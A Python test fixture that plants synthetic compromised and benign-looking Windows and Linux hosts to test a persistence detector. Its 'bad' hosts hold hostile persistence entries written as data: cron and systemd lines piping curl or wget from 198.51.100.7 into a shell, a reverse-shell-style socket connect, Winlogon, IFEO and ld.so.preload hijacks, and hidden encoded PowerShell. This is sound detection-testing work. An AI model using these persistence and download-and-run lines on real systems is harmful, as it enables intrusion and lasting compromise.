"""Plants of the range: for each row three variants that must be found and three near misses that must not, names and places seeded.

Written from the table's specification and from what intruders and administrators are known to do, not from the project's own rules.
Everything is inert: files hold a line of text, keys have no private half, addresses are of documentation networks.
"""

from __future__ import annotations

import base64
import json
import random
import string
import struct
import subprocess
from pathlib import Path
from typing import NamedTuple

from tests.range import listed_files, live_lists, packages, registry_values, startup_files, windows_objects, wmi

HERE = Path(__file__).resolve().parent
HOSTS = 3
CV = "Microsoft\\Windows\\CurrentVersion"
NT = "Microsoft\\Windows NT\\CurrentVersion"
SYSTEM_PYTHON = "/usr/bin/python3"


def has_hivex() -> bool:
    """Return whether the system's Python can write hives."""
    python = Path(SYSTEM_PYTHON)
    return python.exists() and subprocess.run([python, "-c", "import hivex"], capture_output=True).returncode == 0


class Plant(NamedTuple):
    """`mark` is a text that only this plant has, and that any finding on it must carry in its target. `least`: severity of its finding."""

    row: str
    host: str
    guilty: bool
    mark: str
    least: str = "high"


class Planter:
    """Collects files and hive values, host by host; `build` writes them."""

    def __init__(self, root: Path, seed: int) -> None:
        self.root, self.random = root, random.Random(seed)
        self.plants: list[Plant] = []
        self.values: dict[str, list[list[str]]] = {}
        self.texts: dict[Path, str] = {}
        self.encodings: dict[Path, str] = {}

    def word(self) -> str:
        return "".join(self.random.choices(string.ascii_lowercase, k=9))

    def note(self, row: str, host: str, guilty: bool, mark: str, least: str = "high") -> None:
        self.plants.append(Plant(row, host, guilty, mark, least))

    def file(self, host: str, path: str, text: str, encoding: str = "utf-8") -> None:
        place = self.root / host / path
        self.texts[place] = self.texts.get(place, "") + text
        if encoding != "utf-8":
            self.encodings[place] = encoding

    def has(self, host: str, path: str) -> bool:
        """Return whether a text was put there."""
        return self.root / host / path in self.texts

    def bytes(self, host: str, path: str, content: bytes) -> None:
        place = self.root / host / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(content)

    def value(self, host: str, hive: str, key: str, name: str, kind: str, text: str) -> None:
        self.values.setdefault(str(self.root / host / hive), []).append([key, name, kind, text])

    def build(self) -> None:
        for path, text in self.texts.items():
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(text.encode("utf-16" if "/Tasks/" in path.as_posix() else self.encodings.get(path, "utf-8")))
        for hive in self.values:
            Path(hive).parent.mkdir(parents=True, exist_ok=True)
        subprocess.run([SYSTEM_PYTHON, str(HERE / "write_hives.py")], input=json.dumps(self.values), text=True, check=True)


SOFTWARE, SYSTEM, USER = "Windows/System32/config/SOFTWARE", "Windows/System32/config/SYSTEM", "Users/agnes/NTUSER.DAT"
STARTUP = "Users/agnes/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"
ALL_STARTUP = "ProgramData/Microsoft/Windows/Start Menu/Programs/Startup"


def windows(p: Planter) -> list[str]:
    """Three compromised hosts and three that only look odd."""
    bad, good = [f"win-bad-{i}" for i in range(HOSTS)], [f"win-odd-{i}" for i in range(HOSTS)]
    for host in bad + good:
        p.value(host, SYSTEM, "Select", "Current", "REG_DWORD", "1")
        p.value(host, SOFTWARE, NT, "ProductName", "REG_SZ", "Windows 10 Pro")
        p.value(host, SOFTWARE, NT, "CurrentBuildNumber", "REG_SZ", "19045")
        p.value(host, SYSTEM, "ControlSet001\\Control\\Session Manager\\Environment", "PROCESSOR_ARCHITECTURE", "REG_SZ", "AMD64")
        p.value(host, USER, "Environment", "PATH", "REG_SZ", "")
    for i, host in enumerate(bad):
        _windows_bad(p, host, i)
        registry_values.plant(p, host, i, guilty=True)
        startup_files.plant(p, host, i, guilty=True, files="windows")
        wmi.plant(p, host, i, guilty=True)
        live_lists.plant(p, host, i, guilty=True, system="W")
        listed_files.plant(p, host, i, guilty=True)
        windows_objects.plant(p, host, i, guilty=True)
    for i, host in enumerate(good):
        _windows_odd(p, host, i)
        registry_values.plant(p, host, i, guilty=False)
        startup_files.plant(p, host, i, guilty=False, files="windows")
        wmi.plant(p, host, i, guilty=False)
        live_lists.plant(p, host, i, guilty=False, system="W")
        listed_files.plant(p, host, i, guilty=False)
        windows_objects.plant(p, host, i, guilty=False)
    return bad + good


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def _windows_bad(p: Planter, host: str, i: int) -> None:
    w = [p.word() for _ in range(10)]
    run = (
        (SOFTWARE, f"{CV}\\Run", "REG_SZ", f"C:\\Users\\agnes\\AppData\\Local\\Temp\\{w[0]}.exe /q"),
        (USER, f"Software\\{CV}\\Run", "REG_SZ", f"powershell.exe -NoP -w hidden -enc {_encoded('echo ' + w[0])}"),
        (SOFTWARE, f"Wow6432Node\\{CV}\\Run", "REG_EXPAND_SZ", f"%SystemRoot%\\SysWOW64\\rundll32.exe C:\\Users\\Public\\{w[0]}.dll,Start"),
    )[i]
    p.value(host, run[0], run[1], w[1], run[2], run[3])
    p.note("W001", host, True, w[1])
    name = w[2] + (".exe", ".vbs", ".cmd")[i]
    p.file(host, f"{(STARTUP, ALL_STARTUP, STARTUP)[i]}/{name}", "inert\n")
    p.note("W008", host, True, name)
    extra = (f"C:\\ProgramData\\{w[3]}.exe", f"{w[3]}.exe", f'"C:\\Windows\\Temp\\{w[3]}.exe" -s')[i]
    p.value(
        host,
        SOFTWARE,
        f"{NT}\\Winlogon",
        "Userinit",
        "REG_SZ",
        (f"C:\\Windows\\system32\\userinit.exe,{extra},", f"{extra},userinit.exe", f"C:\\WINDOWS\\System32\\UserInit.exe, {extra}")[i],
    )
    p.note("W012", host, True, w[3])
    shell = (
        f"explorer.exe,C:\\Users\\Public\\{w[4]}.exe",
        f"C:\\Users\\agnes\\AppData\\Roaming\\{w[4]}.exe",
        f"explorer.exe, C:\\PerfLogs\\{w[4]}.scr",
    )[i]
    p.value(host, USER if i == 1 else SOFTWARE, f"{'Software' + chr(92) if i == 1 else ''}{NT}\\Winlogon", "Shell", "REG_SZ", shell)
    p.note("W013", host, True, w[4])
    services = f"ControlSet00{1 + i % 2}\\Services"
    image = (
        f"C:\\Users\\Public\\{w[5]}.exe -k",
        f"%COMSPEC% /c start /b powershell -nop -c iex(gp HKLM:\\Software\\{w[5]}).x",
        f"\\??\\C:\\Windows\\Temp\\{w[5]}.sys",
    )[i]
    p.value(host, SYSTEM, f"{services}\\{w[5]}", "ImagePath", ("REG_EXPAND_SZ", "REG_SZ", "REG_EXPAND_SZ")[i], image)
    p.value(host, SYSTEM, f"{services}\\{w[5]}", "Start", "REG_DWORD", "2")
    p.value(host, SYSTEM, f"{services}\\{w[5]}", "Type", "REG_DWORD", ("16", "16", "1")[i])
    p.note("W050", host, True, w[5])
    dll = (f"C:\\ProgramData\\{w[6]}.dll", f"C:\\Users\\agnes\\AppData\\Local\\Temp\\{w[6]}.dll", f"%SystemRoot%\\Temp\\{w[6]}.dll")[i]
    p.value(host, SYSTEM, f"{services}\\{w[6]}", "ImagePath", "REG_EXPAND_SZ", "%SystemRoot%\\system32\\svchost.exe -k netsvcs")
    p.value(host, SYSTEM, f"{services}\\{w[6]}", "Start", "REG_DWORD", "2")
    p.value(host, SYSTEM, f"{services}\\{w[6]}" + ("" if i == 2 else "\\Parameters"), "ServiceDll", "REG_EXPAND_SZ", dll)
    p.note("W051", host, True, w[6])
    action = (
        ("C:\\Users\\Public\\x.exe", "-a"),
        ("mshta.exe", "http://198.51.100.7/a.hta"),
        ("wscript.exe", f"//B //E:vbscript C:\\ProgramData\\{w[0]}.dat"),
    )[i]
    folder = ("", "Microsoft/Windows/Servicing/", "Microsoft/Office/")[i]
    p.file(host, f"Windows/System32/Tasks/{folder}{w[7]}", _task(*action))
    p.note("W100", host, True, w[7])
    image = ("sethc.exe", "utilman.exe", f"{w[8]}.exe")[i]
    value = ("C:\\Windows\\System32\\cmd.exe", f"C:\\Windows\\{w[8]}.exe", f"C:\\Windows\\System32\\{w[9]}.exe /z")[i]
    parent = (
        f"{NT}\\Image File Execution Options",
        f"Wow6432Node\\{NT}\\Image File Execution Options",
        f"{NT}\\Image File Execution Options",
    )[i]
    p.value(host, SOFTWARE, f"{parent}\\{image}", "Debugger", "REG_SZ", value)
    p.note("W150", host, True, image)


def _windows_odd(p: Planter, host: str, i: int) -> None:
    w = [p.word() for _ in range(10)]
    run = (
        (SOFTWARE, f"{CV}\\Run", f'"C:\\Program Files\\Temp Monitor\\{w[0]}.exe" /background'),
        (USER, f"Software\\{CV}\\Run", f"C:\\Users\\agnes\\AppData\\Local\\{w[0]}\\Update.exe --processStart {w[0]}.exe"),
        (SOFTWARE, f"Wow6432Node\\{CV}\\Run", f"C:\\PROGRA~2\\Public Transport\\{w[0]}.exe -hidden"),
    )[i]
    p.value(host, run[0], run[1], w[1], "REG_SZ", run[2])
    p.note("W001", host, False, w[1])
    name = ("desktop.ini", f"{w[2]}.lnk", "Send to OneNote.lnk")[i]
    p.file(host, f"{(STARTUP, ALL_STARTUP, STARTUP)[i]}/{name}", "inert\n")
    p.note("W008", host, False, name)
    p.value(
        host,
        SOFTWARE,
        f"{NT}\\Winlogon",
        "Userinit",
        "REG_SZ",
        ("C:\\Windows\\system32\\userinit.exe,", "%SystemRoot%\\System32\\USERINIT.EXE", "userinit.exe , ")[i],
    )
    p.note("W012", host, False, "Userinit")
    p.value(
        host,
        SOFTWARE,
        f"{NT}\\Winlogon",
        "Shell",
        ("REG_SZ", "REG_EXPAND_SZ", "REG_SZ")[i],
        ("explorer.exe", "%windir%\\explorer.exe", "Explorer.exe, ")[i],
    )
    p.note("W013", host, False, "Shell")
    image = (
        f"\\SystemRoot\\System32\\drivers\\{w[5]}.sys",
        f'"C:\\Program Files\\{w[5]}\\Temp\\agent.exe" --service',
        f"system32\\DRIVERS\\{w[5]}.sys",
    )[i]
    p.value(host, SYSTEM, f"ControlSet001\\Services\\{w[5]}", "ImagePath", "REG_EXPAND_SZ", image)
    p.note("W050", host, False, w[5])
    dll = (f"%SystemRoot%\\System32\\{w[6]}.dll", f"C:\\Windows\\system32\\wbem\\{w[6]}.dll", f"C:\\Program Files\\{w[6]}\\svc.dll")[i]
    p.value(
        host,
        SYSTEM,
        f"ControlSet001\\Services\\{w[6]}",
        "ImagePath",
        "REG_EXPAND_SZ",
        "%SystemRoot%\\system32\\svchost.exe -k LocalService",
    )
    p.value(host, SYSTEM, f"ControlSet001\\Services\\{w[6]}\\Parameters", "ServiceDll", "REG_EXPAND_SZ", dll)
    p.note("W051", host, False, w[6])
    action = (
        ("%windir%\\system32\\rundll32.exe", "%windir%\\system32\\Startupscan.dll,SusRunTask"),
        (f"C:\\Program Files\\{w[7]}\\update.exe", "/ua"),
        (f"C:\\Users\\agnes\\AppData\\Local\\{w[7]}\\Updater.exe", "--wake"),
    )[i]
    p.file(host, f"Windows/System32/Tasks/{w[8]}", _task(*action))
    p.note("W100", host, False, w[8])
    image = (f"{w[9]}.exe", f"{w[9]}.exe", "Your Image File Name Here without a path")[i]
    p.value(
        host,
        SOFTWARE,
        f"{NT}\\Image File Execution Options\\{image}",
        ("GlobalFlag", "Debugger", "Debugger")[i],
        "REG_SZ",
        ("0x00000200", '"C:\\Windows\\system32\\vsjitdebugger.exe"', "ntsd -d")[i],
    )
    p.note("W150", host, False, image)


def _task(command: str, arguments: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-16"?>\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
        "<Triggers><LogonTrigger/></Triggers>"
        '<Principals><Principal id="A"><UserId>S-1-5-18</UserId></Principal></Principals><Actions Context="A">'
        f"<Exec><Command>{command}</Command>"
        f"<Arguments>{arguments}</Arguments></Exec></Actions></Task>"
    )


def linux(p: Planter) -> list[str]:
    """Three compromised hosts and three that only look odd."""
    bad, good = [f"lin-bad-{i}" for i in range(HOSTS)], [f"lin-odd-{i}" for i in range(HOSTS)]
    for host in bad + good:
        p.file(host, "etc/hostname", f"{host}\n")
        p.file(host, "etc/os-release", 'ID=debian\nVERSION_ID="12"\n')
        p.file(
            host,
            "etc/passwd",
            "root:x:0:0::/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\nagnes:x:1000:1000::/home/agnes:/bin/bash\n",
        )
        p.file(host, "etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
        p.file(
            host, "usr/lib/systemd/system/cron.service", "[Service]\nExecStart=/usr/sbin/cron -f\n[Install]\nWantedBy=multi-user.target\n"
        )
    for i, host in enumerate(bad):
        _linux_bad(p, host, i)
        startup_files.plant(p, host, i, guilty=True)
        packages.plant(p, host, i, guilty=True)
        live_lists.plant(p, host, i, guilty=True, system="L")
    for i, host in enumerate(good):
        _linux_odd(p, host, i)
        startup_files.plant(p, host, i, guilty=False)
        packages.plant(p, host, i, guilty=False)
        live_lists.plant(p, host, i, guilty=False, system="L")
    return bad + good


def _key(p: Planter) -> str:
    blob = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + p.random.randbytes(32)
    return "ssh-ed25519 " + base64.b64encode(blob).decode()


def _linux_bad(p: Planter, host: str, i: int) -> None:
    w = [p.word() for _ in range(8)]
    hidden = base64.b64encode(b"echo inert").decode()
    p.file(
        host,
        ("etc/crontab", f"etc/cron.d/{w[0]}", f"etc/cron.d/{w[0]}")[i],
        (
            f"*/5 * * * * root /var/tmp/.{w[0]}/run.sh\n",
            f"@reboot root curl -fsSL http://198.51.100.7/{w[0]} | sh\n",
            f"*/9 * * * * root echo {hidden} | base64 -d | bash #{w[0]}\n",
        )[i],
    )
    p.note("L001", host, True, w[0])
    p.file(
        host,
        f"var/spool/cron/crontabs/{('root', 'www-data', 'agnes')[i]}",
        (
            f"@reboot /dev/shm/{w[1]}\n",
            f"* * * * * python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",443))' #{w[1]}\n",
            f"*/3 * * * * /tmp/{w[1]}.sh\t\r0 5 * * * /usr/bin/true\n",
        )[i],
    )
    p.note("L003", host, True, w[1])
    place = (
        f"etc/systemd/system/{w[2]}.service",
        f"etc/systemd/system/cron.service.d/{w[2]}.conf",
        f"usr/lib/systemd/system/{w[2]}.service",
    )[i]
    p.file(
        host,
        place,
        (
            f"[Service]\nExecStart=/var/tmp/.{w[3]}/agent\nRestart=always\n[Install]\nWantedBy=multi-user.target\n",
            "[Service]\nExecStartPre=/bin/sh -c 'wget -qO- http://198.51.100.7/i | bash'\n",
            f"[Service]\nExecStart=-/bin/bash /dev/shm/{w[3]}\n",
        )[i],
    )
    p.note("L010", host, True, w[2])
    p.file(
        host,
        "etc/ld.so.preload",
        (f"/usr/local/lib/lib{w[4]}.so\n", f"# cache\n/lib/x86_64-linux-gnu/lib{w[4]}.so.2", f"\t /dev/shm/.{w[4]}.so  \n")[i],
    )
    p.note("L050", host, True, w[4])
    p.file(
        host,
        ("root/.ssh/authorized_keys", "var/www/.ssh/authorized_keys", "home/agnes/.ssh/authorized_keys2")[i],
        ("", "", 'command="curl -s http://198.51.100.7/k | sh" ')[i] + f"{_key(p)} {w[5]}\n",
    )
    p.note("L062", host, True, w[5])


def _linux_odd(p: Planter, host: str, i: int) -> None:
    w = [p.word() for _ in range(8)]
    p.file(
        host,
        f"etc/cron.d/{w[0]}",
        (
            f"30 2 * * * root /usr/local/sbin/backup-{w[0]} --quiet\n",
            f"*/10 * * * * root [ -x /usr/lib/{w[0]}/clean ] && /usr/lib/{w[0]}/clean >/dev/null 2>&1\n",
            f"0 * * * * root curl -fsS https://status.example.org/{w[0]} > /dev/null\n",
        )[i],
    )
    p.note("L001", host, False, w[0])
    p.file(
        host,
        "var/spool/cron/crontabs/agnes",
        (
            f"0 3 * * * /home/agnes/bin/{w[1]}.sh\n",
            f"0 4 * * * cd /srv/{w[1]} && /srv/{w[1]}/venv/bin/python manage.py clearsessions\n",
            f"5 5 * * 0 find /tmp -name '{w[1]}*' -mtime +7 -delete\n",
        )[i],
    )
    p.note("L003", host, False, w[1])
    place = (f"etc/systemd/system/{w[2]}.service", f"etc/systemd/system/cron.service.d/{w[2]}.conf", f"etc/systemd/system/{w[2]}.service")[
        i
    ]
    p.file(
        host,
        place,
        (
            f"[Service]\nUser=www-data\nExecStart=/opt/{w[3]}/bin/server --tmp /tmp/{w[3]}\n",
            "[Service]\nLimitNOFILE=65536\nPrivateTmp=yes\n",
            f"[Service]\nExecStart=/usr/bin/python3 /srv/{w[3]}/main.py\nEnvironment=TMPDIR=/var/tmp\n",
        )[i],
    )
    p.note("L010", host, False, w[2])
    p.file(
        host,
        "etc/ld.so.preload",
        ("/usr/lib/arm-linux-gnueabihf/libarmmem-${PLATFORM}.so\n", f"# {w[4]}\n\n", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n")[i],
    )
    p.note("L050", host, False, "/etc/ld.so.preload")
    path, options = (
        ("home/agnes/.ssh/authorized_keys", ""),
        ("root/.ssh/authorized_keys", 'from="192.0.2.10,192.0.2.11" '),
        ("root/.ssh/authorized_keys", 'command="borg serve --restrict-to-path /srv/backup",restrict '),
    )[i]
    p.file(host, path, f"{options}{_key(p)} {w[5]}\n")
    p.note("L062", host, False, w[5])
